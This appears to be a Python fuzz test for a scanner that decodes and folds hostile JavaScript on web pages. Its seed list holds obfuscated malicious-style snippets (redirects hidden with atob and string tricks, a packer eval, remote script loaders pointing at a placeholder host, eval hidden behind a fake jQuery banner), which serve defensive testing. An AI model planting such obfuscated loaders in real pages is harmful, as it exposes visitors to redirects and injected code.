"""Hostile scripts of pages."""

from collector.decode.web.javascript.effects import MAX_EFFECTS, MAX_UNKNOWN
from collector.decode.web.javascript.fold import fold
from collector.decode.web.javascript.library import split_library

SEEDS = (
    b"location.href='https://a.test/x'",
    b"var w=window,l='location';w[l]['hr'+'ef']=atob('aHR0cHM6Ly9hLnRlc3Qv')",
    b"eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\b'+c+'\\b','g'),k[c]);return p}('0=\"1\"',2,2,'location|x'.split('|'),0,{}))",
    b"document.write(unescape('%3Cscript src=%22//a.test/j.js%22%3E%3C/script%3E'))",
    b"var s=document.createElement('script');s.src='//a.test/'+navigator.userAgent;document.head.appendChild(s)",
    b"for(var s='',i=0,c=[104,105];i<c.length;i++)s+=String.fromCharCode(c[i]^1);setTimeout(s,10)",
    b"if(/Mobi/.test(navigator.userAgent)){document.addEventListener('click',()=>open('https://a.test'))}else{try{x()}catch(e){location=e}}",
    b"(function f(a,{b=1,...c},[d]){switch(a){case 1:return f(b,c,d);default:for(const k of a)f(k,a,[k])}})([1,2],{},[])",
    b"/*! jQuery v3.6.0 */!function(e){'use strict';e.a=1}(window);eval(atob('bG9jYXRpb249MQ=='))",
    b"`${[..." + b"'abc'].reverse().join('')}`.replace(/(a)|[^b]+/g,(m,g)=>g||'');class A{get b(){return this}};new A().b",
)


# Broken code takes the grammar 8 ms a kilobyte, and every input is read three times here.
LONGEST = 24_576


def fuzz_one(data: bytes) -> None:
    source = data[:LONGEST].decode("utf-8", "replace")
    folded = fold(source)
    assert folded == fold(source), "the same script gave something else"
    assert len(folded.effects) <= MAX_EFFECTS
    assert len(folded.unknown) <= MAX_UNKNOWN
    for effect in folded.effects:
        effect.value.encode()
    found = split_library(source)
    assert len(found.own) <= len(source)
